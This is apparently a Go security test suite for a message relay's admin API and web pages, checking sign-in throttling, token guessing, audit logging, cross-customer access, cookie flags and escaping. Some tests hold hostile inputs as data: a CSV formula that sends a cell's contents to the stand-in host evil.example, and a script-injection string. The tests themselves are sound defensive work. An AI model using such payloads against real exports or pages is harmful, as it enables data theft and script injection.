package security

import (
	"context"
	"crypto/rand"
	"encoding/csv"
	"hash/crc32"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/msgrelay/relay/bench/faults"
	"github.com/msgrelay/relay/relay/upstream/client"
	"github.com/msgrelay/relay/relay/upstream/upstreampb"
)

// wellFormed returns a token that fits the rly_ format and is nobody's
// (prefix, 22 base62, 6 base62 CRC32), made without the admin package so
// this suite also runs against relays older than the format.
func wellFormed() string {
	const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	b := []byte("rly_")
	var r [22]byte
	_, _ = rand.Read(r[:])
	for _, c := range r {
		b = append(b, digits[int(c)%62])
	}
	v := crc32.ChecksumIEEE(b)
	var d [6]byte
	for i := 5; i >= 0; i-- {
		d[i] = digits[v%62]
		v /= 62
	}
	return string(append(b, d[:]...))
}

// signIn posts the sign-in form; it returns the status and a client
// holding the session cookie.
func (r *relay) signIn(t *testing.T, local, token string) (int, *http.Client) {
	t.Helper()
	c := clientFrom(local)
	c.Jar, _ = cookiejar.New(nil)
	resp, err := c.PostForm(r.admin+"/ui/signin", url.Values{"token": {token}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode, c
}

func (r *relay) signedIn(t *testing.T, c *http.Client) bool {
	t.Helper()
	resp, err := c.Get(r.admin + "/ui/messages")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}

// Attack 4: 10,001 sign-ins with one merchant token do not sign the
// operator out, and sign-in is throttled.
func TestAttack04SignInFlood(t *testing.T) {
	r := startRelay(t, "", "")
	code, op := r.signIn(t, "127.0.0.9", opToken)
	if code != http.StatusSeeOther || !r.signedIn(t, op) {
		t.Fatalf("operator sign-in: %d", code)
	}
	c := clientFrom("127.0.0.1")
	var ok, throttled int
	t0 := time.Now()
	for range 10_001 {
		resp, err := c.PostForm(r.admin+"/ui/signin", url.Values{"token": {shopToken}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		switch resp.StatusCode {
		case http.StatusSeeOther:
			ok++
		case http.StatusTooManyRequests:
			throttled++
		}
	}
	t.Logf("10,001 sign-ins in %v: %d sessions made, %d throttled", time.Since(t0).Round(time.Millisecond), ok, throttled)
	if !r.signedIn(t, op) {
		t.Error("the operator was signed out by a merchant's sign-ins")
	}
	if throttled < 9000 {
		t.Errorf("only %d of 10,001 sign-ins throttled", throttled)
	}
}

// Attack 6: admin token guessing is throttled, and a malformed token is
// refused.
func TestAttack06TokenGuessing(t *testing.T) {
	r := startRelay(t, "", "")
	c := clientFrom("127.0.0.1")
	if code, _ := r.call(c, "GET", "/api/v1/customers/shop", shopToken, ""); code != http.StatusOK {
		t.Fatalf("shop's token: %d", code)
	}
	var unauth, throttled int
	t0 := time.Now()
	for range 1000 {
		switch code, _ := r.call(c, "GET", "/api/v1/customers/shop", wellFormed(), ""); code {
		case http.StatusUnauthorized:
			unauth++
		case http.StatusTooManyRequests:
			throttled++
		default:
			t.Fatalf("guess answered %d", code)
		}
	}
	t.Logf("1,000 well-formed guesses in %v: %d checked, %d throttled", time.Since(t0).Round(time.Millisecond), unauth, throttled)
	if unauth > 20 {
		t.Errorf("%d of 1,000 guesses were checked", unauth)
	}
	if code, _ := r.call(c, "GET", "/api/v1/customers/shop", shopToken, ""); code != http.StatusOK {
		t.Errorf("shop's token, in use from this address, refused during the guessing: %d", code)
	}
	if code, _ := r.call(clientFrom("127.0.0.5"), "GET", "/api/v1/customers/shop", "dev-operator-token", ""); code != http.StatusUnauthorized {
		t.Errorf("a token of the old kind: %d", code)
	}
}

// Attack 8: every refused change is audited, a customer token's too.
func TestAttack08RefusedChangesAudited(t *testing.T) {
	r := startRelay(t, "", "")
	c := clientFrom("127.0.0.1")
	for _, p := range []string{"/api/v1/customers/shop/suspend", "/api/v1/customers/mall/suspend", "/api/v1/customers/shop/purge"} {
		if code, _ := r.call(c, "POST", p, shopToken, `{"reason":"x","confirm":"shop"}`); code != http.StatusForbidden {
			t.Fatalf("POST %s with shop's token: %d", p, code)
		}
	}
	audit := readFile(t, r.dir+"/audit.jsonl")
	if n := strings.Count(audit, `"outcome":"refused"`); n != 3 || strings.Count(audit, `"who":"shop admin"`) != 3 {
		t.Errorf("3 refused changes, audit log:\n%s", audit)
	}
}

// Attack 9: a client_ref that is a formula is exported as text.
func TestAttack09CSVFormula(t *testing.T) {
	r := startRelay(t, "", "")
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cl, err := client.Dial(ctx, r.Addr, client.Options{Customer: "shop", Secret: faults.Secret, PingInterval: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	for _, ref := range []string{evil, "@SUM(1+1)", "-2+3"} {
		resp, err := cl.Submit(ctx, &upstreampb.Submit{ClientRef: ref, Product: upstreampb.Product_PRODUCT_SMS,
			Sender: "0212345678", Recipient: "01012345678", Text: "hi"})
		if err != nil || resp.Status != upstreampb.Status_OK {
			t.Fatalf("submit %q: %v %v", ref, resp, err)
		}
	}
	from := time.Now().Add(-time.Hour).UTC().Format(time.RFC3339)
	to := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	code, body := r.call(clientFrom("127.0.0.1"), "GET", "/api/v1/customers/shop/export?from="+url.QueryEscape(from)+"&to="+url.QueryEscape(to), opToken, "")
	if code != http.StatusOK {
		t.Fatalf("export: %d %s", code, body)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 4 {
		t.Fatalf("export: %v\n%s", err, body)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported cell %q would run as a formula", cell)
			}
		}
	}
}

// More attacks on the admin API and pages.
func TestAdminAttacks(t *testing.T) {
	r := startRelay(t, "", "")
	c := clientFrom("127.0.4.1")
	t.Run("A1 another customer's data", func(t *testing.T) {
		if code, _ := r.call(c, "GET", "/api/v1/customers/mall", shopToken, ""); code != http.StatusForbidden {
			t.Errorf("shop reads mall: %d", code)
		}
	})
	t.Run("A2 60,000-byte bearer token", func(t *testing.T) {
		if code, _ := r.call(clientFrom("127.0.4.2"), "GET", "/api/v1/customers/shop", strings.Repeat("x", 60000), ""); code != http.StatusUnauthorized && code != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("answered %d", code)
		}
	})
	t.Run("A3 session cookie flags", func(t *testing.T) {
		cl := clientFrom("127.0.4.3")
		resp, err := cl.PostForm(r.admin+"/ui/signin", url.Values{"token": {shopToken}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		sc := resp.Header.Get("Set-Cookie")
		if !strings.Contains(sc, "HttpOnly") || !strings.Contains(sc, "SameSite=Strict") {
			t.Errorf("session cookie %q", sc)
		}
	})
	t.Run("A4 signed out means signed out", func(t *testing.T) {
		_, cl := r.signIn(t, "127.0.4.4", shopToken)
		resp, err := cl.PostForm(r.admin+"/ui/signout", nil)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if r.signedIn(t, cl) {
			t.Error("still signed in after sign-out")
		}
	})
	t.Run("A5 script in a page parameter is escaped", func(t *testing.T) {
		_, cl := r.signIn(t, "127.0.4.5", shopToken)
		resp, err := cl.Get(r.admin + "/ui/messages?recipient=" + url.QueryEscape("<script>alert(1)</script>") + "&from=2026-01-01&to=2026-01-02")
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		buf := make([]byte, 4096)
		for {
			n, err := resp.Body.Read(buf)
			b.Write(buf[:n])
			if err != nil {
				break
			}
		}
		resp.Body.Close()
		if strings.Contains(b.String(), "<script>alert(1)</script>") {
			t.Error("the script came back unescaped")
		}
	})
	t.Run("A6 a customer cannot change payments", func(t *testing.T) {
		if code, _ := r.call(c, "PUT", "/api/v1/payments/x", shopToken, `{}`); code != http.StatusForbidden && code != http.StatusNotFound {
			t.Errorf("answered %d", code)
		}
	})
	t.Run("A7 a form posted without the session cookie", func(t *testing.T) {
		cl := clientFrom("127.0.4.7")
		resp, err := cl.Get(r.admin + "/ui/messages")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Error("pages served without a session")
		}
	})
}
